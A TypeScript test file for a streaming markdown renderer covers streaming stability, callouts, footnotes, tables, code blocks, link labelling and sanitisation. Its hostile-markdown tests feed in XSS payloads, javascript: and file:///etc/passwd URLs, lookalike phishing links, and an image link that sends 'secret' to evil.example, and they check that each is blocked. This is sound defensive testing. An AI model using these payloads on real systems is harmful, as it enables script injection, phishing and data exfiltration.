import { imageUrlProblem, judgeUrl, type UrlUse, urlProblem } from '@vitrine/genui'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { fileName } from './download.ts'
import { draw, drawWhole, html, source, streamed } from './markdown.fixture.tsx'
import { otherHost } from './markdown-link.tsx'
import { type MarkdownBlock, MarkdownStream, markdownBlocks } from './markdown-stream.ts'

const USES: readonly UrlUse[] = ['link', 'text_link', 'text_image', 'action', 'image', 'video', 'audio']

const sample = `# Title

A paragraph with **bold**, *em*, \`code\` and a [link](https://example.org).

- one
- two

  continued
- three

1. first
2. second

> quoted
lazily

| a | b |
| - | :-: |
| 1 | 2 |

\`\`\`ts
const x = 1

- not a list
\`\`\`

Setext
---

- [x] done
- [ ] open

See [ref][r] and ![picture](https://example.org/p.png).

[r]: https://example.org/ref
`

describe('streaming markdown', () => {
  it('P-201 blocks before the last one keep their element while text arrives', () => {
    const stream = new MarkdownStream()
    let text = '# Title\n\nfirst paragraph\n\n'
    const before = stream.update(source(text))
    const kept: MarkdownBlock[] = []
    for (const piece of ['- a', '\n- b', '\n\n', 'last ', 'words', ' go on']) {
      text += piece
      const now = stream.update(source(text))
      kept.push(now[0]!)
      expect(now[0]).toBe(before[0])
    }
    const now = stream.update(source(`${text} and on`))
    expect(now.slice(0, 3)).toEqual(stream.update(source(`${text} and on`)).slice(0, 3))
    expect(now).toHaveLength(4)
    expect(new Set(kept).size).toBe(1)
  })

  it('P-201 an update parses from the start of the last block only', () => {
    const stream = new MarkdownStream()
    let text = 'paragraph of some length\n\n'.repeat(1000)
    stream.update(source(text))
    const before = stream.parsed
    for (let i = 0; i < 100; i++) {
      text += 'x'
      stream.update(source(text))
    }
    expect((stream.parsed - before) / 100).toBeLessThan(200)
  })

  it('P-202 the same text looks the same however it was cut up', () => {
    const whole = html(sample)
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 60 }), sizes => {
        const pieces: string[] = []
        let at = 0
        for (const size of sizes) {
          pieces.push(sample.slice(at, at + size))
          at += size
        }
        expect(streamed([...pieces, sample.slice(at)])).toBe(whole)
      }),
    )
  })

  it('P-202 Windows line ends change nothing', () => {
    const windows = sample.replaceAll('\n', '\r\n')
    expect(streamed(windows.match(/[\s\S]{1,7}/g)!)).toBe(html(sample))
  })

  it('L5 AU-81 a final text that replaced the streamed one is shown, not appended', () => {
    const stream = new MarkdownStream()
    stream.update(source('one\n\ntwo\n\nthree'))
    expect(draw(stream.update(source('One.\n\nTwo.\n\nThree.'), true))).toBe('<p>One.</p><p>Two.</p><p>Three.</p>')
  })

  it('P-8901 a long text is read a piece at a time, and a piece that was read is not read again', () => {
    const whole = source(sample.slice(0, sample.indexOf('See [ref]')).repeat(40))
    const seen: (readonly MarkdownBlock[])[] = []
    for (let unread = 1; unread > 0; ) {
      const read = markdownBlocks(whole, true, 2_000)
      seen.push(read.blocks)
      unread = read.unread
    }
    expect(seen.length).toBeGreaterThan(5)
    expect(seen.at(-1)![0]).toBe(seen[0]![0])
    expect(draw(seen.at(-1)!)).toBe(html(whole.from(0)))
    expect(markdownBlocks(whole, true).blocks).toBe(seen.at(-1))
  })

  it('P-203 headings begin below the conversation and skip no level', () => {
    expect(html('## a\n\n#### b\n\n# c')).toMatch(/<h3.*<h4.*<h3/)
  })
})

describe('what people write', () => {
  it('P-8905 a quote that names its kind is a callout with its name and its words', () => {
    const drawn = html('> [!WARNING]\n> Take **care**.\n>\n> - of this')
    expect(drawn).toMatch(/role="note" aria-label="Warning"/)
    expect(drawn).toMatch(/Warning<\/p><p>Take <strong>care<\/strong>.<\/p><ul>/)
    expect(drawn).not.toContain('[!')
    expect(html('> [!OTHER]\n> text')).toContain('<blockquote>')
  })

  it('P-8905 footnotes are numbered by the places that mention them, and stand at the end', () => {
    const drawn = html(
      'One[^b], two[^a], one again[^b].\n\n[^a]: Text of a.\n\n[^b]: Text of **b**\n    goes on.\n\nAfter.',
    )
    expect(drawn.match(/data-note-ref="\d"/g)).toEqual(['1', '2', '1'].map(number => `data-note-ref="${number}"`))
    expect(drawn).toMatch(
      /After\.<\/p><ol class="v-footnotes".*data-note="1".*Text of <strong>b.*data-note="2".*Text of a/s,
    )
    expect(html('An unknown[^x] one.')).toBe('<p>An unknown[^x] one.</p>')
    expect(html('Nobody mentions it.\n\n[^x]: But it is there.')).toContain('But it is there.')
    expect(html('> quoted\n> [^x]: kept')).toContain('kept')
  })

  it('P-8905 tasks can be read and not changed', () => {
    expect(html('- [x] done\n- [ ] open')).toMatch(
      /<input type="checkbox" disabled="" aria-label="Done" checked=""\/>done.*<input type="checkbox" disabled="" aria-label="Open"\/>open/,
    )
  })

  it('P-8905 C01 details fold what is in them, and are the only HTML that is understood', () => {
    const drawn = html(
      '<details>\n<summary>More <b onclick="x">of</b> **it**</summary>\n\nInside.\n\n</details>\n\nAfter.',
    )
    expect(drawn).toMatch(
      /^<details class="v-disclosure v-details"><summary>.*<strong>it<\/strong>.*<\/details><p>After\.<\/p>$/s,
    )
    expect(drawn).toContain('&lt;b onclick=')
    expect(drawn).not.toContain('Inside')
    const open = html('<details open>\n<summary>x</summary>\n\nInside.\n\n```\n</details>\n```\n\n- last\n\n</details>')
    expect(open).toMatch(/<details[^>]* open="">.*<p>Inside\.<\/p>.*<li>last<\/li>/s)
    expect(html('<details onclick=x>')).not.toContain('<details')
    expect(html('<details>\n<details>\n<summary>in</summary>\n</details>\nrest\n</details>\nAfter')).toMatch(
      /<\/details><p>After<\/p>$/,
    )
  })

  it('P-8906 columns of figures stand to the right, and what the text says about sides counts first', () => {
    const drawn = html('| a | b | c |\n|---|---|:-:|\n| Median | 141 ms | 1 |\n| x | $1,200.50 | 2 |')
    expect(drawn.match(/<t[hd](?: [^>]*)?>/g)!.map(cell => /data-side="(\w+)"/.exec(cell)?.[1])).toEqual(
      Array.from({ length: 3 }, () => [undefined, 'right', 'center']).flat(),
    )
    expect(html('| a |\n|---|\n| 3 apples and more |')).not.toContain('data-side')
  })

  it('P-8906 a very long table shows its first rows and offers the rest', () => {
    const drawn = html(`| a |\n|---|\n${'| 1 |\n'.repeat(500)}`)
    expect(drawn.match(/<tr>/g)).toHaveLength(201)
    expect(drawn).toContain('Show 300 more rows')
  })

  it('P-8906 a very wide table shows its first columns and offers the rest', () => {
    const row = '| 1 '.repeat(500)
    const drawn = html(`${row}|\n${'|---'.repeat(500)}|\n${`${row}|\n`.repeat(20)}`)
    expect(drawn.match(/<t[hd][ >]/g)).toHaveLength(60 * 21)
    expect(drawn).toContain('Show 60 more columns')
  })

  it('C05 P-285 a word without an end has places where a line may end, and stays the same text', () => {
    const word = `${'[a]('.repeat(300)}👩‍🚀${'é'.repeat(500)}`
    for (const text of [
      word,
      `[${'A'.repeat(900)}](https://example.org)`,
      `\`${'A'.repeat(900)}\``,
      `$$${'A'.repeat(20_000)}$$`,
    ]) {
      const drawn = html(text)
      const pieces = drawn.replace(/<(?!wbr)[^>]*>/g, '').split('<wbr/>')
      expect(Math.max(...pieces.map(piece => piece.length))).toBeLessThan(250)
      expect(drawn.replaceAll('<wbr/>', '')).toMatch(/A{900}|(?:é){500}/)
    }
    expect(html(`${'several words '.repeat(200)}${'汉'.repeat(900)}`)).not.toContain('<wbr/>')
  })

  it('C05 the bytes of a picture that cannot be drawn are no words', () => {
    const drawn = html(`![](data:text/plain;base64,${'A'.repeat(5_000)}) ![${'b'.repeat(5_000)}](javascript:1)`)
    expect(drawn).toContain('The picture could not be loaded.')
    expect(drawn).not.toContain('AAAA')
    expect(drawn.length).toBeLessThan(1_000)
  })

  it('P-8909 one tilde strikes nothing out, two do', () => {
    expect(html('~5 of ~10, and ~~gone~~')).toBe('<p>~5 of ~10, and <del>gone</del></p>')
  })

  it('P-8903 code has its language or its file as a name, and folds when it is long', () => {
    expect(html('```ts\nx\n```')).toContain('>TypeScript<')
    expect(html('```ts src/orders/place.ts\nx\n```')).toContain('>src/orders/place.ts<')
    expect(html('```python title="a b.py"\nx\n```')).toContain('>a b.py<')
    expect(html('```unheard\nx\n```')).toContain('>unheard<')
    const long = html(`\`\`\`\n${'line\n'.repeat(100)}\`\`\``)
    expect(long.match(/line\n|line(?=<)/g)).toHaveLength(40)
    expect(long).toContain('Show 60 more lines')
    expect(html(`\`\`\`\n${'line\n'.repeat(60)}\`\`\``).match(/line\n|line(?=<)/g)).toHaveLength(60)
  })

  it('P-8903 a file gets a name that is safe everywhere', () => {
    expect(fileName('src/a/place.ts', 'ts')).toBe('place.ts')
    expect(fileName('..\\..\\evil.exe', 'ts')).toBe('evil.exe')
    expect(fileName('a\u202egnp.exe', 'ts')).toBe('agnp.exe')
    expect(fileName(undefined, 'py')).toBe('code.py')
  })
})

describe('links', () => {
  it.each([
    ['https://bank.example', 'https://evil.example/x', 'evil.example'],
    ['www.bank.com', 'https://evil.example/', 'evil.example'],
    ['bank.com/login', 'https://evil.example/', 'evil.example'],
    ['go to https://bank.example now', 'https://evil.example/', 'evil.example'],
    ['b\u200bank.com', 'https://evil.example/', 'evil.example'],
    ['me@bank.com', 'mailto:me@evil.example', 'evil.example'],
    ['https://bank.example', 'https://bank.example/x', undefined],
    ['www.bank.com', 'https://bank.com', undefined],
    ['Node.js', 'https://nodejs.org', undefined],
    ['README.md', 'https://example.org/README.md', undefined],
    ['the bank', 'https://evil.example', undefined],
  ])('P-8907 %j that leads to %s says %s', (words, url, host) => {
    expect(otherHost(words, url)).toBe(host)
    expect(html(`[${words}](${url})`).includes('leads to evil.example')).toBe(host !== undefined)
  })

  it('P-8907 what hides in the words of a link is shown', () => {
    expect(html('[a\u202eb **c\u200bd**](https://example.org)')).toMatch(
      />a<span class="v-mark">U\+202E<\/span>b <strong>c<span/,
    )
  })

  it('P-8907 an address in the text is a link', () => {
    expect(html('See https://example.org/a and www.example.org.')).toMatch(
      /<a href="https:\/\/example.org\/a".*<a href="http:\/\/www.example.org/,
    )
  })
})

describe('hostile markdown', () => {
  it('C01 HTML is text', () => {
    const out = html('<img src=x onerror=alert(1)>\n\n<script>alert(1)</script> a <b onclick="x">b</b>')
    expect(out).not.toMatch(/<(img|script|b )/)
    expect(out).toContain('&lt;script&gt;')
  })

  it.each([
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://example.org/x',
    'ftp://example.org',
    '//example.org',
    '/relative',
    'https://',
    'https:example.org',
    'https://bank.example@evil.example',
    'https://example.org\\@evil.example',
    'https://a\u202eb.example/',
  ])('C01 C02 %j is no address in a text, on a surface or in a document', href => {
    for (const use of USES) expect(judgeUrl(href, use), use).toMatchObject({ ok: false })
    expect(urlProblem(href)).toBeDefined()
    expect(imageUrlProblem(href)).toBeDefined()
    const written = href.replace('\n', '').replaceAll('\\', '\\\\')
    expect(html(`[text](<${written}>)`)).not.toContain('<a ')
    expect(html(`![text](<${written}>)`)).toBe(html('![text](</relative>)'))
  })

  it('C01 C02 a page in a data: address is no link in a text', () => {
    expect(html('[text](<data:text/html,x>)')).not.toContain('<a ')
    expect(judgeUrl('data:text/html,x', 'text_link')).toMatchObject({ ok: false, code: 'url_scheme' })
  })

  it('C01 C02 https is an address in a text, on a surface and in a document', () => {
    const href = 'https://example.org/x'
    for (const use of USES) expect(judgeUrl(href, use), use).toMatchObject({ ok: true, url: href })
    expect(urlProblem(href)).toBeUndefined()
    expect(imageUrlProblem(href)).toBeUndefined()
    expect(html(`[text](${href})`)).toContain('<a ')
    expect(html(`![text](${href})`)).toContain('<a ')
  })

  it('C01 links that may be followed open apart and tell nobody where from', () => {
    expect(html('[a](https://example.org/x?y=1)')).toContain(
      '<a href="https://example.org/x?y=1" target="_blank" rel="noopener noreferrer">a</a>',
    )
    expect(html('[a](mailto:a@example.org)')).toContain('<a href="mailto:a@example.org"')
  })

  it('C01 C10 P-8910 a remote picture is a plate with its words and host, an SVG in the text is never drawn', () => {
    const remote = html('![secret](https://evil.example/?q=secret)')
    expect(remote).toMatch(/secret.*Image from evil\.example/)
    expect(remote).not.toContain('<img')
    expect(html('![x](data:image/svg+xml;base64,PHN2Zz4=)')).not.toContain('<img')
    expect(html('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img')
  })
})

it('P-9357 each block has the direction of its own text, and code has none to guess', () => {
  const blocks = new MarkdownStream().update(
    source('# عنوان\n\nفقرة\n\nA line.\n\n- بند\n\n> اقتباس\n\n| ا | b |\n|---|---|\n| ج | d |\n\n```\ncode\n```\n'),
    true,
  )
  const html = drawWhole(blocks)
  const all = (tag: string) => html.match(new RegExp(`<${tag}[ >][^>]*`, 'g')) ?? ['none']
  for (const tag of ['h3', 'p', 'th', 'td']) for (const found of all(tag)) expect(found).toContain('dir="auto"')
  // What has such blocks inside has the direction of the first of them.
  for (const tag of ['ul', 'li', 'blockquote', 'table'])
    for (const found of all(tag)) expect(found).toContain('dir="rtl"')
  expect(/<pre[^>]*>/.exec(html)?.[0]).not.toContain('dir="auto"')
})
